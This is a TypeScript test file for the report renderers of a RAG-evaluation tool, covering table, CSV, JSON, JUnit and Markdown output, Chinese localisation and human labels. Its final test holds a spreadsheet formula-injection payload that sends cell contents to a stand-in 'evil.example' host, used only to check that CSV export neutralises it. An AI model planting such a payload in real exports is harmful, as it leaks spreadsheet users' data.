import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { offlineClaims } from "../../judges/index.js";
import {
  buildReport,
  checkThresholds,
  compareToBaseline,
  type EvaluationReport,
  jsonReportChunks,
  renderJsonReport,
  renderJunitReport,
  renderMarkdownReport,
  renderReport,
  renderSummaryTable,
  renderTableReport,
  type ReportEvaluationRow,
  withLabels,
  type ReportResultRow,
  xmlEscape,
} from "./index.js";

const EVALUATION: ReportEvaluationRow = {
  id: "11111111-1111-4111-8111-111111111111",
  name: "lanting <nightly> & co",
  status: "COMPLETED",
  status_reason: null,
  collection_id: "c1",
  question_set_id: "s1",
  bot_id: "builtin",
  judge_llm_model_id: "offline",
  config: { judges: ["offline"], rule_version: "rv1" },
  total_questions: 4,
  completed_questions: 4,
  gmt_created: new Date("2025-01-01T00:00:00Z"),
  started_at: new Date("2025-01-01T00:00:01Z"),
  finished_at: new Date("2025-01-01T00:00:09Z"),
};

function offlineJudge(score: number, passed: boolean, f1: number) {
  return {
    outcome: "ok",
    score,
    raw_score: 1 + 9 * score,
    passed,
    defaulted: false,
    verdict: {
      metrics: { accuracy: 8, completeness: 7, clarity: 9, weighted_score: 1 + 9 * score },
      exact_match: 0,
      f1,
      rouge_l: f1 / 2,
      groundedness: 0.9,
      reason: "Heuristic (no LLM): fine",
    },
  };
}

function row(position: number, patch: Partial<ReportResultRow>): ReportResultRow {
  return {
    position,
    question_id: `q${position}`,
    question_type: "FACTUAL",
    question_text: `Question ${position}?`,
    ground_truth: `Truth ${position}.`,
    status: "SCORED",
    rag_answer: `Answer ${position} [n${position}].`,
    rag_citations: [`n${position}`],
    rag_answer_sources: [
      { node_id: `n${position}`, content: `Source text ${position}`, source: "lexical", score: 1 },
    ],
    gate_status: "pass",
    judges: { offline: offlineJudge(0.8, true, 0.6) },
    score: 0.8,
    passed: true,
    error: null,
    latency_ms: 120,
    attempts: 1,
    usage: null,
    ...patch,
  };
}

const ROWS: ReportResultRow[] = [
  row(0, {}),
  row(1, {
    question_type: "INFERENTIAL",
    question_text: 'Why "quotes" & <tags> | pipes\nand lines?',
    gate_status: "fail",
    judges: { offline: offlineJudge(0.2, false, 0.1) },
    score: 0.2,
    passed: false,
  }),
  row(2, {
    status: "BOT_ERROR",
    rag_answer: null,
    rag_citations: null,
    rag_answer_sources: null,
    gate_status: null,
    judges: null,
    score: null,
    passed: null,
    error: "bot unreachable: connect ECONNREFUSED\u0001",
  }),
  row(3, { question_type: "USER_DEFINED", question_text: "澜汀大学成立于哪一年？" }),
];

const report = (): EvaluationReport => buildReport(EVALUATION, ROWS);

describe("buildReport", () => {
  it("keeps every result with its answer, citations, sources, gate and judge measures", () => {
    const r = report();
    expect(r.evaluation).toMatchObject({
      id: EVALUATION.id,
      status: "COMPLETED",
      judges: ["offline"],
      rule_version: "rv1",
      finished_at: "2025-01-01T00:00:09.000Z",
    });
    expect(r.results).toHaveLength(4);
    expect(r.results[0]).toMatchObject({
      question: "Question 0?",
      ground_truth: "Truth 0.",
      answer: "Answer 0 [n0].",
      citations: ["n0"],
      sources: [{ node_id: "n0", content: "Source text 0", source: "lexical", score: 1 }],
      gate: "pass",
      status: "SCORED",
      latency_ms: 120,
    });
    expect(r.results[0]?.judges.offline?.metrics).toMatchObject({
      exact_match: 0,
      f1: 0.6,
      rouge_l: 0.3,
      groundedness: 0.9,
      accuracy: 8,
    });
    expect(r.results[2]).toMatchObject({ status: "BOT_ERROR", citations: [], sources: [] });
    expect(r.summary).toMatchObject({ total: 4, scored: 3, errors: { bot: 1, judge: 0 } });
    expect(r.summary.average_score).toBeCloseTo(0.6, 6);
  });
});

describe("table", () => {
  it("prints the summary, per-judge means with the offline measures, gate, types and errors", () => {
    const text = renderSummaryTable(report());
    expect(text).toMatch(/status\s+COMPLETED/);
    expect(text).toMatch(/questions\s+4 total, 4 completed, 3 scored/);
    expect(text).toMatch(/average score\s+0\.600/);
    expect(text).toMatch(/pass rate\s+66\.7%/);
    expect(text).toMatch(/judge\s+counted\s+mean score\s+mean raw\s+pass rate\s+exact_match\s+f1/);
    expect(text).toMatch(
      /offline\s+3\s+0\.600\s+6\.40\s+66\.7%\s+0\.000\s+0\.433\s+0\.217\s+0\.900/,
    );
    expect(text).toMatch(/fail\s+1\s+33\.3%/);
    expect(text).toMatch(/INFERENTIAL\s+1\s+1\s+0\.200\s+0\.0%/);
    expect(text).toMatch(/3\s+BOT_ERROR\s+bot unreachable/);
    expect(text).not.toContain("Questions\n");
  });

  it("adds one compact row per question", () => {
    const text = renderTableReport(report());
    const questions = text.slice(text.indexOf("Questions\n"));
    expect(questions).toMatch(/#\s+type\s+question\s+status\s+gate\s+score\s+passed\s+f1/);
    expect(questions).toMatch(/1\s+FACTUAL\s+Question 0\?\s+SCORED\s+pass\s+0\.800\s+yes\s+0\.600/);
    expect(questions).toMatch(/2\s+INFERENTIAL\s+Why "quotes" & <tags> \| pipes and lines\?/);
    expect(questions).toMatch(/4\s+USER_DEFINED\s+澜汀大学成立于哪一年？/);
    expect(renderReport(report(), "table")).toBe(text);
  });
});

describe("retrieval metrics", () => {
  const retrieval = (recall: number, mrr: number) => ({
    by: "ids",
    k: 3,
    relevant: 2,
    retrieved: 3,
    found: recall * 2,
    hit_rate: recall > 0 ? 1 : 0,
    recall,
    precision: (recall * 2) / 3,
    mrr,
    ndcg: recall,
    matched: [],
    missing: [],
  });
  const rows = [
    row(0, { retrieval: retrieval(1, 1) }),
    row(1, { retrieval: retrieval(0.5, 0.25) }),
    row(2, {}),
  ];

  it("shows the means in the summary, recall and MRR per question, and every metric in the CSV", () => {
    const withRetrieval = buildReport(EVALUATION, rows);
    const text = renderTableReport(withRetrieval);
    expect(text).toMatch(/Retrieval against known relevant items \(2 question\(s\), means\)/);
    expect(text).toMatch(/hit rate@3\s+1\.000/);
    expect(text).toMatch(/recall@3\s+0\.750/);
    expect(text).toMatch(/MRR\s+0\.625/);
    const questions = text.slice(text.indexOf("Questions\n"));
    expect(questions).toMatch(/score\s+passed\s+f1\s+grounded\s+recall\s+MRR/);
    expect(questions).toMatch(/2\s+FACTUAL\s+Question 1\?.*0\.500\s+0\.250/);
    expect(renderMarkdownReport(withRetrieval)).toContain("| recall@3 | 0.750 |");
    const [header, first, , third] = parse(renderReport(withRetrieval, "csv")) as string[][];
    const at = (name: string) => header?.indexOf(name) ?? -1;
    expect(first?.[at("retrieval_recall")]).toBe("1");
    expect(first?.[at("retrieval_k")]).toBe("3");
    expect(third?.[at("retrieval_mrr")]).toBe("");
    // A run whose questions name no relevant items has no retrieval section or columns.
    expect(renderTableReport(report())).not.toMatch(/Retrieval|recall/);
  });
});

describe("json", () => {
  it("is written a result at a time, as the same text JSON.stringify makes of the whole", () => {
    const full = report();
    const withChecks: EvaluationReport = {
      ...full,
      thresholds: checkThresholds(full.summary, { min_score: 0.5 }),
    };
    const empty: EvaluationReport = { ...full, results: [] };
    for (const each of [full, withChecks, empty]) {
      const chunks = [...jsonReportChunks(each)];
      expect(chunks.join("")).toBe(`${JSON.stringify(each, null, 2)}\n`);
      expect(renderJsonReport(each)).toBe(`${JSON.stringify(each, null, 2)}\n`);
    }
    // One piece per result, not the whole report in one string.
    expect([...jsonReportChunks(full)].length).toBeGreaterThan(full.results.length);
  });

  it("holds the summary and every result in full", () => {
    const parsed = JSON.parse(renderJsonReport(report())) as EvaluationReport;
    expect(parsed.summary.total).toBe(4);
    expect(parsed.results.map((r) => r.status)).toEqual([
      "SCORED",
      "SCORED",
      "BOT_ERROR",
      "SCORED",
    ]);
    expect(parsed.results[1]?.question).toBe('Why "quotes" & <tags> | pipes\nand lines?');
    expect(parsed.results[1]?.judges.offline).toMatchObject({
      score: 0.2,
      passed: false,
      metrics: { f1: 0.1, exact_match: 0, rouge_l: 0.05, groundedness: 0.9 },
    });
    expect(parsed.results[2]?.error).toContain("ECONNREFUSED");
  });
});

describe("junit", () => {
  it("has one test case per question: failure when not passed, error on bot and judge errors", () => {
    const xml = renderJunitReport(report());
    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n')).toBe(true);
    expect(xml).toContain('tests="4" failures="1" errors="1" skipped="0"');
    expect(xml.match(/<testcase /g)).toHaveLength(4);
    expect(xml).toContain(
      'name="#2 Why &quot;quotes&quot; &amp; &lt;tags&gt; | pipes&#10;and lines?"',
    );
    expect(xml).toMatch(
      /<failure type="NOT_PASSED" message="score 0\.200; gate fail; failed: offline/,
    );
    expect(xml).toContain(
      '<error type="BOT_ERROR" message="bot unreachable: connect ECONNREFUSED"/>',
    );
    expect(xml).toContain('name="#4 澜汀大学成立于哪一年？"');
    expect(xml).toContain(
      '<property name="evaluation_id" value="11111111-1111-4111-8111-111111111111"/>',
    );
    expect(xml).toContain('<testsuite name="lanting &lt;nightly&gt; &amp; co"');
    // Balanced and free of raw control characters or stray ampersands.
    // eslint-disable-next-line no-control-regex
    expect(xml).not.toMatch(/[\u0000-\u0008]/);
    expect(xml).not.toMatch(/&(?!(amp|lt|gt|quot|apos|#10|#13);)/);
    expect(xml.match(/<testcase /g)?.length).toBe(
      (xml.match(/<\/testcase>/g)?.length ?? 0) + (xml.match(/<testcase [^>]*\/>/g)?.length ?? 0),
    );
  });

  it("words its failure and skip messages in Chinese with lang zh, errors as they came", () => {
    const unfinished = report();
    unfinished.results = [
      ...unfinished.results,
      { ...unfinished.results[0]!, position: 9, status: "PENDING", passed: null, score: null },
    ];
    const xml = renderJunitReport(unfinished, "zh");
    expect(xml).toMatch(
      /<failure type="NOT_PASSED" message="得分 0\.200; 门控未通过; 未通过的评判：offline/,
    );
    expect(xml).toContain("问题：Why &quot;quotes&quot;");
    expect(xml).toMatch(/offline：得分 [^\n]*，未通过/);
    expect(xml).toContain('<skipped message="未完成：PENDING"/>');
    expect(xml).toContain(
      '<error type="BOT_ERROR" message="bot unreachable: connect ECONNREFUSED"/>',
    );
    expect(xml).not.toMatch(/score |not passed|question: |not finished/);
    // The same through renderReport, which the CLI calls with --lang.
    expect(renderReport(unfinished, "junit", "zh")).toBe(xml);
    expect(renderReport(unfinished, "junit")).toContain(
      '<skipped message="not finished: PENDING"/>',
    );
  });

  it("escapes attribute text completely", () => {
    expect(xmlEscape(`a<b>&"c'\n\u0007`)).toBe("a&lt;b&gt;&amp;&quot;c&apos;&#10;");
  });
});

describe("markdown", () => {
  it("renders GitHub tables with pipes and line breaks escaped", () => {
    const md = renderMarkdownReport(report());
    expect(md).toContain("# Evaluation: lanting &lt;nightly> &amp; co");
    expect(md).toContain("## Summary");
    expect(md).toContain("| average score | 0.600 |");
    expect(md).toMatch(/\| judge \| counted \| mean score \|.*\n\| --- \| ---: \|/);
    expect(md).toContain(
      '| 2 | INFERENTIAL | Why "quotes" &amp; &lt;tags> \\| pipes and lines? | SCORED | fail |',
    );
    // Every table row has as many cells as its header.
    for (const table of md.split("\n\n").filter((block) => block.startsWith("|"))) {
      const lines = table.split("\n");
      const cells = (line: string) => line.split(/(?<!\\)\|/).length;
      for (const line of lines) expect(cells(line)).toBe(cells(lines[0] ?? ""));
    }
  });

  it("words its titles, headers and notes in Chinese with lang zh, the figures unchanged", () => {
    const md = renderMarkdownReport(report(), "zh");
    expect(md).toContain("# 评估：lanting &lt;nightly> &amp; co");
    expect(md).toContain("## 概要");
    expect(md).toContain("| 平均得分 | 0.600 |");
    expect(md).toMatch(/\| 评判 \| 计入 \| 平均得分 \|.*\n\| --- \| ---: \|/);
    expect(md).toContain("_平均得分和通过率只计入已评分的问题");
    expect(md).not.toMatch(/\b(Summary|average score|Questions|Averages)\b/);
    const table = renderTableReport(report(), "zh");
    expect(table).toContain("问题");
    expect(table).not.toContain("Summary");
  });

  it("shows the checks and regressions when a baseline was compared", () => {
    const baseline = buildReport({ ...EVALUATION, id: "base" }, ROWS);
    const worse = buildReport(
      EVALUATION,
      ROWS.map((r) => (r.position === 0 ? { ...r, passed: false, score: 0.5 } : r)),
    );
    const comparison = compareToBaseline(worse, baseline);
    const md = renderMarkdownReport({ ...worse, baseline: comparison });
    expect(md).toContain("## Regressions against the baseline");
    expect(md).toContain("| 1 | Question 0? | passed -> not passed |");
    expect(md).toMatch(/\| --baseline \| FAILED \| 1 regression\(s\)/);
  });

  it("words the checks and the regressions' reasons in Chinese with lang zh", () => {
    const baseline = buildReport({ ...EVALUATION, id: "base" }, ROWS);
    const worse = buildReport(
      EVALUATION,
      ROWS.map((r) => (r.position === 0 ? { ...r, passed: false, score: 0.5 } : r)),
    );
    const comparison = compareToBaseline(worse, baseline, { lang: "zh" });
    const thresholds = checkThresholds(worse.summary, { max_errors: 0 }, "zh");
    const md = renderMarkdownReport({ ...worse, baseline: comparison, thresholds }, "zh");
    expect(md).toContain("## 相对基线的退步");
    expect(md).toContain("| 1 | Question 0? | 通过 -> 未通过 |");
    expect(md).toMatch(
      /\| --baseline \| FAILED \| 4 个匹配的问题中退步 1 个、进步 0 个；平均得分 /,
    );
    expect(md).toMatch(
      /\| --max-errors \| FAILED \| 1 个错误（机器人 1 个，评判 0 个），超过 --max-errors 0 \|/,
    );
    expect(md).not.toMatch(/regression\(s\)|passed ->|error\(s\)/);
  });
});

describe("claim-level metrics", () => {
  it("get a table in the markdown, table and JSON reports, labelled as approximate offline", () => {
    const claims = offlineClaims({
      question: "How long is the Nile?",
      answer: "The Nile is 6,650 km long. It flows through Uganda.",
      ground_truth: "The Nile is 6,650 km long.",
      contexts: ["The Nile is 6,650 km long."],
    });
    const withClaims = buildReport({ ...EVALUATION, config: { judges: ["claims_offline"] } }, [
      row(0, { judges: { claims_offline: claims } }),
    ]);
    const title =
      "Claim-level metrics of claims_offline, as RAGChecker computes them (mean % over 1 answers); " +
      "approximate: sentences as claims, offline entailment";
    const markdown = renderMarkdownReport(withClaims);
    expect(markdown).toContain(`## ${title}`);
    // One sentence of two is the reference's: precision 50%; the reference is stated: recall 100%.
    expect(markdown).toContain("| overall | precision | 50.0 |");
    expect(markdown).toContain("| overall | recall | 100.0 |");
    expect(markdown).toContain("| generator | hallucination | 50.0 |");
    expect(renderTableReport(withClaims)).toContain(title);
    const json = JSON.parse(renderJsonReport(withClaims)) as EvaluationReport;
    expect(json.summary.judges.claims_offline?.claim_metrics?.overall.precision).toBe(50);
    expect(json.results[0]?.judges.claims_offline?.metrics.hallucination).toBe(0.5);
  });
});

describe("human labels in the reports", () => {
  const labels = [
    {
      question_id: "q0",
      scale: "1-10",
      score: 8,
      passed: null,
      note: 'precise, "quoted"',
      labelled_by: "Ana",
      labelled_at: new Date("2026-11-25T10:00:00Z"),
    },
    {
      question_id: "q0",
      scale: "pass_fail",
      score: null,
      passed: true,
      note: null,
      labelled_by: "Ana",
      labelled_at: new Date("2026-11-25T10:00:00Z"),
    },
    {
      question_id: "q1",
      scale: "1-10",
      score: 2,
      passed: null,
      note: null,
      labelled_by: "Bo",
      labelled_at: "2026-11-25T11:00:00Z",
    },
  ];
  const labelled = () => buildReport(EVALUATION, withLabels(ROWS, labels));

  it("attach to their results by question id and go into the JSON report", () => {
    const json = JSON.parse(renderJsonReport(labelled())) as EvaluationReport;
    expect(json.results[0]?.human_labels).toEqual([
      {
        scale: "1-10",
        score: 8,
        passed: null,
        note: 'precise, "quoted"',
        labelled_by: "Ana",
        labelled_at: "2026-11-25T10:00:00.000Z",
      },
      expect.objectContaining({ scale: "pass_fail", passed: true }),
    ]);
    expect(json.results[2]?.human_labels).toEqual([]);
    expect(report().results[0]?.human_labels).toEqual([]);
  });

  it("fill the human columns of the CSV report, one row per question", () => {
    const records = parse(renderReport(labelled(), "csv"), { columns: true }) as Record<
      string,
      string
    >[];
    expect(records).toHaveLength(4);
    expect(records[0]).toMatchObject({
      position: "1",
      question_id: "q0",
      offline_raw_score: String(1 + 9 * 0.8),
      offline_passed: "true",
      "human_score_1-10": "8",
      human_passed: "true",
      human_note: 'precise, "quoted"',
      labelled_by: "Ana",
    });
    expect(records[1]).toMatchObject({
      "human_score_1-10": "2",
      human_passed: "",
      labelled_by: "Bo",
    });
    expect(records[2]).toMatchObject({ status: "BOT_ERROR", "human_score_1-10": "" });
  });

  it("start text cells a spreadsheet would run as formulas with an apostrophe; numbers stay numbers", () => {
    const rows = [
      row(0, {
        question_text: '=HYPERLINK("http://evil.example/?"&B2,"details")',
        ground_truth: "-2 degrees",
        rag_answer: "@SUM(A1:A9)",
      }),
    ];
    const [record] = parse(renderReport(buildReport(EVALUATION, rows), "csv"), {
      columns: true,
    }) as Record<string, string>[];
    expect(record).toMatchObject({
      question: '\'=HYPERLINK("http://evil.example/?"&B2,"details")',
      ground_truth: "'-2 degrees",
      answer: "'@SUM(A1:A9)",
      position: "1",
    });
    expect(Number(record?.score)).toBeGreaterThan(0);
  });
});
